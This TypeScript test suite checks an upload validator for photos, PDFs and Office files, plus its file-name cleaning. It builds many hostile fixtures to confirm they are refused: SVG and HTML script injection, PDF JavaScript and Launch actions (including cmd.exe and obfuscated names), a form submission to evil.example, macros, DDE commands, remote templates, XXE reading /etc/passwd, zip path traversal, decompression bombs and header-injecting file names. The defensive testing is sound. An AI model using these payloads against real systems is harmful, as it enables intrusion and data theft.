import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { fileMost, pixelsMost } from '@siccam/contract';
import { worked } from '@siccam/testing';
import sharp from 'sharp';
import { office, pdf, photo, relations, stream, zip } from '../testing/bytes';
import type { Refusal } from '../wire';
import { lookedAt, nameOf } from './look';
import { pagesMost } from './pdf';

const becomes = (bytes: Uint8Array, use: 'photo' | 'attachment') => lookedAt(bytes, use).then(({ type }) => type, (error: unknown) => (error as Refusal).code ?? String(error));
const text = (said: string) => Buffer.from(said);
const action = (said: string) => `<< /OpenAction << ${said} >> >>`;
const listOf = (said: string) => pdf({ objects: [`<< /Type /ObjStm /N 1 /First 5 ${said} >>\nstream\n00\nendstream`] });
/** Packed so that the word for the end of what is packed stands readable inside it. */
function endsInside(said: string): Buffer {
  const readable = text('90 0 %endstream\n');
  const head = Buffer.from([0x78, 0x01, 0, readable.length, 0, ~readable.length & 255, 255]);
  return Buffer.concat([head, readable, deflateRawSync(said), deflateSync(Buffer.concat([readable, text(said)])).subarray(-4)]);
}
const external = (type: string, target: string) => [{ name: 'word/_rels/document.xml.rels', bytes: relations([{ type, target, mode: 'External' }]) }];
const brand = (name: string) => Buffer.concat([Buffer.from([0, 0, 0, 24]), text(`ftyp${name}\0\0\0\0mif1${name}`), Buffer.alloc(200)]);

/** A PNG that says to have as many pixels as it is told, without holding them. */
function png(width: number, height: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(Buffer.concat([text(name), data])));
    return Buffer.concat([length, text(name), data, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.alloc(100))), chunk('IEND', Buffer.alloc(0))]);
}

describe('what is taken as a photo', () => {
  it.each(['jpeg', 'png', 'webp', 'avif'] as const)('is a %s, and becomes a JPEG in two sizes', async (type) => {
    const { type: kept, bytes, small } = await lookedAt(await photo({ type }), 'photo');
    expect(kept).toBe('image/jpeg');
    expect([await sharp(bytes).metadata(), await sharp(small ?? undefined).metadata()]).toMatchObject([{ format: 'jpeg', width: 960, height: 640 }, { format: 'jpeg', width: 192, height: 128 }]);
  });

  it('holds nothing any more of what the camera wrote into it, where it was taken first of all', async () => {
    const brought = await photo();
    expect(brought.includes('canary-artist') && brought.includes('canary-xmp')).toBe(true);
    expect((await sharp(brought).metadata()).exif).toBeDefined();
    const { bytes, small } = await lookedAt(Buffer.concat([brought, text('<script>canary-tail</script>')]), 'photo');
    for (const kept of [bytes, small]) {
      const { exif, xmp, iptc, icc } = await sharp(kept ?? undefined).metadata();
      expect([exif, xmp, iptc, icc]).toEqual([undefined, undefined, undefined, undefined]);
      expect(Buffer.from(kept ?? []).includes('canary')).toBe(false);
    }
  });

  it('stands upright as the camera meant it', async () => {
    const lying = await sharp(await photo()).withExif({}).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    expect(await sharp((await lookedAt(lying, 'photo')).bytes).metadata()).toMatchObject({ width: 640, height: 960 });
  });

  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['nothing', () => Buffer.alloc(0), 'file.empty'],
    ['one byte', () => text('x'), 'file.notAPhoto'],
    ['too much by a byte', () => Buffer.alloc(fileMost.photo + 1), 'file.tooLarge'],
    ['as much as may be, and nothing', () => Buffer.alloc(fileMost.photo), 'file.notAPhoto'],
    ['a drawing of instructions', () => text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'file.notAPhoto'],
    ['the same after a declaration', () => text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'file.notAPhoto'],
    ['a page', () => text('<!doctype html><script>alert(1)</script>'), 'file.notAPhoto'],
    ['a page that begins as a picture', () => text('GIF89a/*<script>alert(1)</script>*/'), 'file.notAPhoto'],
    ['a page behind the first bytes of a JPEG', () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), text('<script>alert(1)</script>')]), 'file.broken'],
    ['a TIFF', async () => await sharp(await photo()).tiff().toBuffer(), 'file.notAPhoto'],
    ['a document', () => pdf(), 'file.notAPhoto'],
    ['what an iPhone writes', () => brand('heic'), 'file.ofAPhone'],
    ['an AVIF of nothing', () => brand('avif'), 'file.broken'],
    ['half a picture', async () => (await photo({ width: 2000, height: 2000, type: 'png' })).subarray(0, 3000), 'file.broken'],
    ['half a JPEG', async () => {
      const whole = await sharp({ create: { width: 800, height: 800, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 30 } } }).jpeg().toBuffer();
      return whole.subarray(0, whole.length / 2);
    }, 'file.broken'],
    ['a hundred thousand pixels on a side', () => png(100_000, 1), 'file.tooManyPixels'],
    ['one pixel too many on a side', () => png(pixelsMost.side + 1, 1), 'file.tooManyPixels'],
    ['too many pixels in all', () => png(8000, 5001), 'file.tooManyPixels'],
    ['an archive', () => office('docx'), 'file.notAPhoto'],
  ])('is not %s', async (_what, bytes, refusal) => {
    expect(await becomes(await bytes(), 'photo')).toBe(refusal);
  });
});

describe('what is taken as an attachment', () => {
  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['a PDF', () => pdf({ pages: 3 }), 'application/pdf'],
    ['a PDF of many pages', () => pdf({ pages: pagesMost }), 'application/pdf'],
    ['a PDF whose objects are packed', () => pdf({ packed: '<< /Type /Page >>' }), 'application/pdf'],
    ['a PDF with a web address', () => pdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://fair.test) >> >>'] }), 'application/pdf'],
    ['a PDF with a picture', () => pdf({ objects: [stream(Buffer.alloc(100_000, 7), '/Subtype /Image /Width 10')] }), 'application/pdf'],
    ['a JPEG', () => photo(), 'image/jpeg'],
    ['a PNG', () => photo({ type: 'png' }), 'image/png'],
    ['a presentation', () => office('pptx'), 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
    ['a text', () => office('docx'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['a table', () => office('xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['a text with a web address', () => office('docx', external('hyperlink', 'https://fair.test')), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['a presentation with a table behind its chart', () => office('pptx', [{ name: 'ppt/embeddings/table.xlsx', bytes: office('xlsx') }]), 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
  ])('is %s', async (_what, bytes, type) => {
    expect(await becomes(await bytes(), 'attachment')).toBe(type);
  });

  it('is drawn anew where it is a picture', async () => {
    const { bytes } = await lookedAt(await photo(), 'attachment');
    const { exif, xmp, width } = await sharp(bytes).metadata();
    expect([exif, xmp, width]).toEqual([undefined, undefined, 1200]);
  });

  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['nothing', () => Buffer.alloc(0), 'file.empty'],
    ['too much by a byte', () => Buffer.concat([pdf(), Buffer.alloc(fileMost.attachment)]), 'file.tooLarge'],
    ['a program', () => text('MZ\x90\0\x03'), 'file.notADocument'],
    ['a page that calls itself a PDF', () => text('<html><body>%PDF-1.7</body></html>'), 'file.notADocument'],
    ['a drawing of instructions', () => text('<svg/>'), 'file.notADocument'],
    ['a WebP', () => photo({ type: 'webp' }), 'file.notADocument'],
    ['an older or locked office document', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), 'file.oldOffice'],
    ['an archive of something else', () => zip([{ name: 'a.txt', bytes: 'hello' }]), 'file.notADocument'],
  ])('is not %s', async (_what, bytes, refusal) => {
    expect(await becomes(await bytes(), 'attachment')).toBe(refusal);
  });
});

describe('a PDF is refused that', () => {
  it.each<[string, () => Buffer, string]>([
    ['is cut short', () => pdf().subarray(0, 200), 'file.broken'],
    ['begins with something else', () => Buffer.concat([text('\n\n'), pdf()]), 'file.notADocument'],
    ['is a page too', () => pdf({ before: '%<html><script>alert(1)</script>\n' }), 'file.mixed'],
    ['is a program of a page too', () => pdf({ before: '%<ScRiPt src=x>\n' }), 'file.mixed'],
    ['is an archive too', () => Buffer.concat([pdf(), zip([{ name: 'a.txt', bytes: 'hello' }])]), 'file.mixed'],
    ['is an archive too, in what looks like its own end', () => Buffer.concat([pdf(), zip([{ name: 'a.txt', bytes: 'hello' }]), text('startxref\n0\n%%EOF')]), 'file.mixed'],
    ['has something behind its end', () => pdf({ after: 'MZ and more' }), 'file.mixed'],
    ['runs a program', () => pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }), 'file.active'],
    ['runs a program that it spells otherwise', () => pdf({ catalog: '/OpenAction << /S /J#61vaScript /JS (x) >>' }), 'file.active'],
    ['runs a program that it spells wholly otherwise', () => pdf({ catalog: `/OpenAction << /S /${[...'JavaScript'].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('')} >>` }), 'file.active'],
    ['runs a program from its list of names', () => pdf({ catalog: '/Names << /JavaScript 10 0 R >>' }), 'file.active'],
    ['runs a program from a packed object', () => pdf({ packed: action('/S /JavaScript /JS (x)') }), 'file.active'],
    ['runs a program from an object that only looks like a picture\'s bytes', () => pdf({ objects: [`<< /Length 9 >>\nstream\n7 0 obj ${action('/S/JavaScript/JS(x)')} endobj\nendstream`] }), 'file.active'],
    ['hides a list of objects behind a comment', () => pdf({ objects: [Buffer.concat([text('<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode % obj\n >>\nstream\n'), deflateSync(`90 0 ${action('/S /Launch')}`), text('\nendstream')])] }), 'file.active'],
    ['hides a list of objects behind a text', () => listOf('/X ( 1 0 obj) /Filter [/ASCIIHexDecode /FlateDecode]'), 'file.broken'],
    ['says in a text that a list of objects is a colour', () => listOf('/X (/Alternate) /Filter [/ASCIIHexDecode /FlateDecode]'), 'file.broken'],
    ['says a list of objects is a colour too', () => listOf('/Alternate /DeviceRGB /Filter [/ASCIIHexDecode /FlateDecode]'), 'file.broken'],
    ['packs a list of objects as another object says', () => listOf('/X (/Filter /FlateDecode) /Filter 7 0 R'), 'file.broken'],
    ['packs a list of objects in two ways to choose from', () => listOf('/Filter /FlateDecode /F [/ASCIIHexDecode /FlateDecode]'), 'file.broken'],
    ['packs a list of objects by what stood before', () => listOf('/Filter /FlateDecode /DecodeParms << /Predictor%\n12 >>'), 'file.broken'],
    ['begins a list of objects where readers do not agree', () => pdf({ objects: ['<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream \n00\nendstream'] }), 'file.broken'],
    ['hides objects behind a word for the end', () => pdf({ objects: [Buffer.concat([text('<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n'), endsInside(action('/S /Launch')), text('\nendstream')])] }), 'file.active'],
    ['describes a list of objects with more words than anyone reads', () => listOf(`/X [${'/A '.repeat(10_000)}] /Filter [/ASCIIHexDecode /FlateDecode]`), 'file.broken'],
    ['is read again and again', () => pdf({ objects: [`<< /X (${'obj<<('.repeat(20_000)}) >>`] }), 'file.broken'],
    ['packs a list of objects twice', () => pdf({ objects: ['<< /Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00\nendstream'] }), 'file.broken'],
    ['packs a list of objects in an old way', () => pdf({ objects: ['<< /Type /ObjStm /N 1 /First 5 /Filter /LZWDecode >>\nstream\n00\nendstream'] }), 'file.broken'],
    ['starts a program of the machine', () => pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'file.active'],
    ['sends a form', () => pdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }), 'file.active'],
    ['holds a film that runs', () => pdf({ objects: ['<< /Subtype /RichMedia >>'] }), 'file.active'],
    ['holds a form of the other kind', () => pdf({ catalog: '/AcroForm << /XFA 10 0 R >>' }), 'file.active'],
    ['carries a file', () => pdf({ catalog: '/Names << /EmbeddedFiles 10 0 R >>', objects: ['<< /Type /EmbeddedFile >>'] }), 'file.embedded'],
    ['carries a file that a page points to', () => pdf({ objects: ['<< /Type /Filespec /F (x.exe) >>'] }), 'file.embedded'],
    ['is locked', () => pdf({ trailer: '/Encrypt 10 0 R' }), 'file.locked'],
    ['has ten thousand pages', () => pdf({ pages: 10_000 }), 'file.tooManyPages'],
    ['has one page too many', () => pdf({ pages: pagesMost + 1 }), 'file.tooManyPages'],
    ['spells its names so that looking takes long', () => pdf({ packed: `<< ${'/#41'.repeat(2_000_000)} >>` }), 'file.broken'],
    ['unpacks to more than anyone can hold', () => pdf({ packed: `<< >>${' '.repeat(80 * 1024 * 1024)}` }), 'file.unpacks'],
  ])('%s', async (_what, bytes, refusal) => {
    expect(await becomes(bytes(), 'attachment')).toBe(refusal);
  });

  // Compared with as many streams that unpack to little.
  it('is looked at no longer where each of its streams would unpack to a thousand times as much', async () => {
    const of = (size: number, packed = stream(Buffer.alloc(size, 32))) => pdf({ objects: Array.from({ length: 3000 }, () => packed) });
    const taken = async (bytes: Buffer) => {
      const began = worked();
      expect(await becomes(bytes, 'attachment')).toBe('application/pdf');
      return worked() - began;
    };
    await taken(of(400));
    expect(await taken(of(500_000))).toBeLessThan(3 * (await taken(of(400))));
  });
});

describe('an office document is refused that', () => {
  const megabyte = 1024 * 1024;
  const spaces = (size: number) => Buffer.alloc(size, 32);
  const part = (name: string, bytes: Uint8Array | string = 'x') => ({ name, bytes });
  it.each<[string, () => Buffer, string]>([
    ['is cut short', () => office('docx').subarray(0, -30), 'file.broken'],
    ['says nothing of what it is', () => zip([part('word/document.xml', '<x/>')]), 'file.notADocument'],
    ['begins with something else', () => office('docx', [], { around: { before: 'PK\x03\x04 <script>' } }), 'file.mixed'],
    ['ends with something else', () => office('docx', [], { around: { after: '<script>' } }), 'file.mixed'],
    ['unpacks to a hundred times itself', () => office('docx', [part('word/media/a.xml', spaces(60 * megabyte))]), 'file.unpacks'],
    ['says to be smaller than it unpacks to', () => office('docx', [{ ...part('word/media/a.xml', spaces(19 * megabyte)), size: 10 }]), 'file.unpacks'],
    ['says to be larger than it unpacks to', () => office('docx', [{ ...part('word/media/a.xml'), size: 10 }]), 'file.broken'],
    ['unpacks the same bytes again and again', () => {
      const once = part('word/a.xml', spaces(megabyte));
      return office('docx', [once, { ...once, name: 'word/b.xml' }, { ...once, name: 'word/c.xml', localName: 'word/b.xml' }]);
    }, 'file.broken'],
    ['has parts that share bytes', () => {
      const local = zip([part('word/b.xml')]);
      return zip([{ name: 'word/a.xml', bytes: local, method: 0 }, { name: 'word/b.xml', bytes: 'x', at: 40 }]);
    }, 'file.unpacks'],
    ['holds a part that its list does not name', () => {
      const hidden = zip([part('word/vbaProject.bin', 'MZ')]).subarray(0, 60);
      const whole = office('docx');
      const [list, end] = [whole.readUInt32LE(whole.length - 6), whole.length - 22];
      const moved = Buffer.concat([whole.subarray(0, list), hidden, whole.subarray(list)]);
      moved.writeUInt32LE(list + hidden.length, end + hidden.length + 16);
      return moved;
    }, 'file.mixed'],
    ['has parts without number', () => office('docx', Array.from({ length: 5001 }, (_none, at) => part(`word/${at}.xml`, ''))), 'file.unpacks'],
    ['holds an archive', () => office('docx', [part('word/media/a.zip', zip([part('a.txt')]))]), 'file.embedded'],
    ['holds an archive that calls itself a picture', () => office('docx', [part('word/media/a.png', zip([part('a.txt')]))]), 'file.embedded'],
    ['holds a document in a document in a document', () => office('pptx', [part('ppt/embeddings/a.xlsx', office('xlsx', [part('xl/embeddings/b.docx', office('docx'))]))]), 'file.embedded'],
    ['holds a document with a macro', () => office('pptx', [part('ppt/embeddings/a.xlsx', office('xlsx', [part('xl/vbaProject.bin')]))]), 'file.active'],
    ['holds a program', () => office('docx', [part('word/media/a.bin', 'MZ\x90\0')]), 'file.embedded'],
    ['holds an object of another program', () => office('docx', [part('word/embeddings/oleObject1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex'))]), 'file.embedded'],
    ['holds a page', () => office('docx', [part('word/afchunk.html', '<script>')]), 'file.embedded'],
    ['holds a macro', () => office('docx', [part('word/vbaProject.bin')]), 'file.active'],
    ['says to hold macros', () => office('docx', [], { types: '<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' }), 'file.active'],
    ['holds a control', () => office('docx', [part('word/activeX/activeX1.xml', '<x/>')]), 'file.active'],
    ['asks another program for data', () => office('docx', [part('word/footer.xml', '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe</w:instrText>')]), 'file.active'],
    ['asks another program for data from a table', () => office('xlsx', [part('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')]), 'file.active'],
    ['takes its template from elsewhere', () => office('docx', external('attachedTemplate', 'https://evil.example/a.dotm')), 'file.external'],
    ['takes its template from elsewhere, spelt otherwise', () => office('docx', [part('word/_rels/settings.xml.rels', `<Relationships><Relationship Target='a">b' Id = "r" Type="x/attachedTemplate" TargetMode = 'Extern&#97;l'/></Relationships>`)]), 'file.external'],
    ['takes a picture from elsewhere', () => office('docx', external('image', 'https://evil.example/a.png')), 'file.external'],
    ['has an address that runs something', () => office('docx', external('hyperlink', 'javascript:alert(1)')), 'file.external'],
    ['has an address of a machine in the network', () => office('docx', external('hyperlink', '\\\\evil\\share')), 'file.external'],
    ['names another document type', () => office('docx', [part('word/a.xml', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')]), 'file.broken'],
    ['speaks in another encoding', () => office('docx', [part('word/_rels/a.rels', Buffer.from('\ufeff<Relationships/>', 'utf16le'))]), 'file.broken'],
    ['holds a link of a file system', () => office('docx', [{ ...part('word/a.xml', '/etc/passwd'), mode: 0o120777 }]), 'file.external'],
    ['climbs out of its folder', () => office('docx', [part('../../etc/cron.d/a')]), 'file.external'],
    ['names a place of the machine', () => office('docx', [part('/etc/passwd')]), 'file.external'],
    ['holds two parts of one name', () => office('docx', [part('word/a.xml'), part('WORD/A.xml')]), 'file.broken'],
    ['is called otherwise in its list', () => office('docx', [{ ...part('word/a.xml'), localName: 'word/b.xml' }]), 'file.broken'],
    ['is locked', () => office('docx', [{ ...part('word/a.xml'), flags: 1 }]), 'file.locked'],
  ])('%s', async (_what, bytes, refusal) => {
    expect(await becomes(bytes(), 'attachment')).toBe(refusal);
  });
});

describe('a name', () => {
  it.each([
    ['programme.pdf', 'programme.pdf'],
    ['cv.pdf.exe', 'cv.pdf'],
    ['cv.exe', 'cv.pdf'],
    ['../../etc/passwd', 'passwd.pdf'],
    ['C:\\Users\\Salma\\cv.pdf', 'cv.pdf'],
    ['cv\0.exe', 'cv.pdf'],
    ['cv\r\nSet-Cookie: a=b.pdf', 'cvSet-Cookie a=b.pdf'],
    ['"; filename=evil.exe', 'filename=evil.pdf'],
    ['عرض الأوفشورينغ.pdf', 'عرض الأوفشورينغ.pdf'],
    ['Présentation été 2.0.pdf', 'Présentation été 2.0.pdf'],
    ['\u202efdp.exe', 'fdp.pdf'],
    ['\u200b\u200f', 'f00dbabe.pdf'],
    ['', 'f00dbabe.pdf'],
    ['...', 'f00dbabe.pdf'],
    ['.htaccess', 'f00dbabe.pdf'],
    ['CON', 'f00dbabe.pdf'],
    ['x'.repeat(300), `${'x'.repeat(100)}.pdf`],
    ['م'.repeat(300), `${'م'.repeat(100)}.pdf`],
  ])('%j becomes %j', (said, name) => {
    expect(nameOf(said, 'pdf', 'f00dbabe')).toBe(name);
  });
});
